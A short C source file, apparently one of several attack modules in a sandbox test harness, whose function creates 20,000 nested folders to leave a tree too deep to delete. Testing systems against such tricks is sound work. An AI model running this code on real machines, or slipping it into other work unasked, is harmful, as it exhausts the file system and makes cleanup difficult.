// tries: to leave folders so deep that nobody can delete them
#include "attack.h"

static const char *attack(void) {
    for (int depth = 0; depth < 20000; depth++)
        if (mkdir("a_folder_with_a_name_of_some_length", 0777) != 0 ||
            chdir("a_folder_with_a_name_of_some_length") != 0)
            return NULL;
    return "20000 folders in each other";
}
